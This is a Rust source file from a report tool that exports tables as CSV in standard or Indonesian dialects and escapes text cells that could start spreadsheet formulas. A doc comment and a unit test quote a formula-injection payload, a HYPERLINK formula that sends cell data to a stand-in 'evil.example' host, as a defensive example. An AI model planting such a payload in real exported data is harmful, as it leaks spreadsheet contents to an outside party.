//! CSV: one file per table, or every table in one file for people.
//!
//! The tables of a report have different columns, so each becomes its own RFC 4180
//! file, written by the `csv` crate (CRLF line ends, fields quoted when they hold the
//! delimiter, a quote, CR or LF, quotes doubled), named `<report id>-<table id>.csv`.
//! What a spreadsheet opening it needs:
//!
//! - **A UTF-8 byte-order mark** first, so that Excel (which otherwise assumes the
//!   system's code page, cp1252 on most PCs) reads "Anak (≤12)" and "×" right.
//! - **The numbers the report shows**: each rounded to its column's places (counts
//!   whole, hours and MB to one decimal …), shares as percentages (`50.5` under a
//!   header that says `%`, not the fraction `0.505`), no thousands grouping.
//! - **A dialect** ([`CsvDialect`]): `standard` (`,` between fields, `.` decimals: what
//!   scripts and an English spreadsheet read) or `id` (`;` between fields, decimal
//!   commas: what Excel and LibreOffice read as numbers under an Indonesian locale,
//!   where `2.85` is text).
//! - **Totals apart**: a blank line before a table's total row, so that sorting or
//!   filtering the data rows leaves the total out.
//!
//! The first row holds the labels in the chosen language; flagged rows carry their
//! reason in a last "Catatan"/"Note" column; dates are ISO. [`render_csv_combined`]
//! puts every table in one file for people (`jejak report --format csv` on a terminal,
//! the API without `table=`): each table under a line with its title, tables separated
//! by a blank line. JSON and XLSX keep the model's exact values.
//!
//! **Formulas.** A spreadsheet opening a CSV runs a cell that begins with `=`, `+`,
//! `-` or `@` (and, in some, a tab or carriage return) as a formula: a library named
//! `=HYPERLINK("http://evil.example/?x="&A1,"click")` would become a live link that
//! sends the sheet's data away. Following OWASP's rule, every text cell (names, labels,
//! reasons; never a number, which is written by the report itself) that begins with one
//! of those characters gets a `'` in front, which spreadsheets show as plain text. XLSX
//! needs no such rule: its cells are typed, text stays text.

use std::fmt;
use std::str::FromStr;

use super::model::Cell;
use super::{ColumnKind, RenderOptions, Report, Table};

/// The byte-order mark that tells a spreadsheet the file is UTF-8.
pub const UTF8_BOM: &str = "\u{feff}";

/// How a CSV file separates fields and writes decimals.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum CsvDialect {
    /// `,` between fields, `.` decimals (RFC 4180; scripts, English spreadsheets).
    #[default]
    Standard,
    /// `;` between fields, `,` decimals: Indonesian Excel and LibreOffice.
    Indonesian,
}

impl CsvDialect {
    /// Its name in `--csv-dialect` and `csv_dialect=`.
    pub fn code(self) -> &'static str {
        match self {
            CsvDialect::Standard => "standard",
            CsvDialect::Indonesian => "id",
        }
    }

    fn delimiter(self) -> u8 {
        match self {
            CsvDialect::Standard => b',',
            CsvDialect::Indonesian => b';',
        }
    }

    fn decimal_point(self) -> char {
        match self {
            CsvDialect::Standard => '.',
            CsvDialect::Indonesian => ',',
        }
    }
}

impl fmt::Display for CsvDialect {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.code())
    }
}

/// The error for a dialect name that is not one.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error(
    "dialek CSV '{0}' tidak dikenal; pilihan: standard (koma, titik desimal), id (titik koma, koma desimal: Excel Indonesia) / unknown CSV dialect '{0}'; choose standard (commas, decimal points) or id (semicolons, decimal commas: Indonesian Excel)"
)]
pub struct UnknownCsvDialect(pub String);

impl FromStr for CsvDialect {
    type Err = UnknownCsvDialect;

    fn from_str(raw: &str) -> Result<Self, Self::Err> {
        match raw.trim().to_ascii_lowercase().as_str() {
            "standard" | "rfc4180" | "comma" => Ok(CsvDialect::Standard),
            "id" | "indonesia" | "indonesian" | "excel-id" => Ok(CsvDialect::Indonesian),
            _ => Err(UnknownCsvDialect(raw.to_string())),
        }
    }
}

/// One CSV file of a report.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CsvFile {
    /// The file name, `<report id>-<table id>.csv`.
    pub name: String,
    /// The file's text, byte-order mark first.
    pub content: String,
}

/// Every table of the report as a CSV file, in order (suppression applied).
pub fn render_csv(report: &Report, options: &RenderOptions) -> Vec<CsvFile> {
    let report = report.for_export(options);
    report
        .sections
        .iter()
        .map(|table| CsvFile {
            name: format!("{}-{}.csv", report.id, table.id),
            content: format!("{UTF8_BOM}{}", records(table, options, None)),
        })
        .collect()
}

/// One table as a CSV file, byte-order mark first. Apply suppression first
/// ([`Report::for_export`]) when the table comes from a report that leaves the office.
pub fn table_csv(table: &Table, options: &RenderOptions) -> String {
    format!("{UTF8_BOM}{}", records(table, options, None))
}

/// Every table in one file, for people: each under a line with its title and followed
/// by its notes, tables separated by a blank line (suppression applied), then the
/// signature block when the report has one, after a blank line, one line per record. (A
/// single table's file holds the table only: it is for machines.)
pub fn render_csv_combined(report: &Report, options: &RenderOptions) -> String {
    let report = report.for_export(options);
    let mut parts: Vec<String> = report
        .sections
        .iter()
        .map(|table| {
            // The table's notes follow it, a line each, for the people this file is for.
            let notes: String = table
                .notes
                .iter()
                .map(|note| record(&[text_cell(note.get(options.lang))], options.csv_dialect))
                .collect();
            records(table, options, Some(table.title.get(options.lang))) + &notes
        })
        .collect();
    if let Some(signature) = &report.signature {
        parts.push(
            signature
                .lines(options.lang)
                .iter()
                .map(|line| record(&[text_cell(line)], options.csv_dialect))
                .collect(),
        );
    }
    format!("{UTF8_BOM}{}", parts.join("\r\n"))
}

/// A table's records: its title (when given), the header, the data rows, a blank line
/// and the total rows.
fn records(table: &Table, options: &RenderOptions, title: Option<&str>) -> String {
    let lang = options.lang;
    let dialect = options.csv_dialect;
    let mut out = String::new();
    if let Some(title) = title {
        out.push_str(&record(&[text_cell(title)], dialect));
    }
    let mut header: Vec<String> = table
        .columns
        .iter()
        .map(|column| {
            let label = column.label.get(lang);
            match column.kind {
                // The number is a percentage now: the header says so.
                ColumnKind::Percent(_) if !label.contains('%') => format!("{label} (%)"),
                _ => label.to_string(),
            }
        })
        .map(|label| text_cell(&label))
        .collect();
    if table.has_flags() {
        header.push(text_cell(super::model::note_label(lang)));
    }
    out.push_str(&record(&header, dialect));
    let mut data_rows = false;
    let mut apart = false;
    for row in &table.rows {
        if row.is_total && data_rows && !apart {
            out.push_str("\r\n");
            apart = true;
        }
        data_rows |= !row.is_total;
        let mut fields: Vec<String> = table
            .columns
            .iter()
            .zip(&row.cells)
            .map(|(column, cell)| field(cell, column.kind, dialect))
            .collect();
        if table.has_flags() {
            fields.push(text_cell(
                row.emphasis
                    .as_ref()
                    .map(|flag| flag.reason.get(lang))
                    .unwrap_or_default(),
            ));
        }
        out.push_str(&record(&fields, dialect));
    }
    out
}

/// One record, CRLF-terminated, quoted by the `csv` crate as RFC 4180 says (a field
/// holding the delimiter, a quote, CR or LF is quoted, quotes doubled).
fn record(fields: &[String], dialect: CsvDialect) -> String {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .delimiter(dialect.delimiter())
        .from_writer(Vec::new());
    // Writing to a Vec cannot fail; a record the writer refused would only be missing.
    let _ = writer.write_record(fields);
    let bytes = writer.into_inner().unwrap_or_default();
    // Every field came from a `String`, so the bytes are UTF-8.
    String::from_utf8(bytes).unwrap_or_default()
}

/// A cell as the dialect writes it: text with the formula rule, numbers rounded to the
/// places the report shows (percentages as percentages).
fn field(cell: &Cell, kind: ColumnKind, dialect: CsvDialect) -> String {
    match cell {
        Cell::Text(text) => text_cell(text),
        Cell::Empty => String::new(),
        Cell::Number(n) => {
            let (value, places) = match kind {
                ColumnKind::Count => (*n, 0),
                ColumnKind::Decimal(places) => (*n, places),
                ColumnKind::Percent(places) => (n * 100.0, places),
                ColumnKind::Text | ColumnKind::Date => (*n, if n.fract() == 0.0 { 0 } else { 2 }),
            };
            number(value, places, dialect)
        }
    }
}

/// A number rounded to `places`, with the dialect's decimal point and no grouping.
fn number(value: f64, places: u8, dialect: CsvDialect) -> String {
    if !value.is_finite() {
        return String::new();
    }
    // The same rounding as the other formats (halves away from zero), without grouping.
    let shown =
        super::number::format_number(value, places, jejak_domain::Lang::En).replace(',', "");
    match dialect {
        CsvDialect::Standard => shown,
        CsvDialect::Indonesian => shown.replace('.', &dialect.decimal_point().to_string()),
    }
}

/// The characters that make a spreadsheet read a cell as a formula (OWASP's list).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell as CSV carries it: with a `'` in front when it would start a formula.
pub(crate) fn text_cell(text: &str) -> String {
    if text.starts_with(FORMULA_START) {
        format!("'{text}")
    } else {
        text.to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_would_be_formulas_are_plain_text() {
        for dangerous in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\tcmd",
            "\rcmd",
        ] {
            assert_eq!(text_cell(dangerous), format!("'{dangerous}"));
        }
        for safe in ["Perpustakaan Desa Dermaji", "2026-10-01", "", "a=b", "<5"] {
            assert_eq!(text_cell(safe), safe);
        }
        // Numbers are the report's own and stay numbers, negative ones too.
        assert_eq!(
            field(
                &Cell::Number(-1.5),
                ColumnKind::Decimal(1),
                CsvDialect::Standard
            ),
            "-1.5"
        );
    }

    #[test]
    fn numbers_are_rounded_as_shown_in_either_dialect() {
        let cases = [
            (
                2.853_333_333_333_333_5,
                ColumnKind::Decimal(1),
                "2.9",
                "2,9",
            ),
            (1234.0, ColumnKind::Count, "1234", "1234"),
            (0.505, ColumnKind::Percent(1), "50.5", "50,5"),
            (-0.125, ColumnKind::Percent(1), "-12.5", "-12,5"),
            (
                1_234_567.25,
                ColumnKind::Decimal(2),
                "1234567.25",
                "1234567,25",
            ),
            (3.0, ColumnKind::Text, "3", "3"),
            (0.0, ColumnKind::Decimal(1), "0.0", "0,0"),
        ];
        for (value, kind, standard, id) in cases {
            assert_eq!(
                field(&Cell::Number(value), kind, CsvDialect::Standard),
                standard
            );
            assert_eq!(
                field(&Cell::Number(value), kind, CsvDialect::Indonesian),
                id
            );
        }
        assert_eq!(
            field(
                &Cell::Number(f64::NAN),
                ColumnKind::Count,
                CsvDialect::Standard
            ),
            ""
        );
    }

    #[test]
    fn dialects_are_named_as_people_type_them() {
        assert_eq!("id".parse(), Ok(CsvDialect::Indonesian));
        assert_eq!(" Standard ".parse(), Ok(CsvDialect::Standard));
        let error = "semicolon".parse::<CsvDialect>().unwrap_err().to_string();
        assert!(error.contains("pilihan: standard") && error.contains("choose standard"));
    }
}
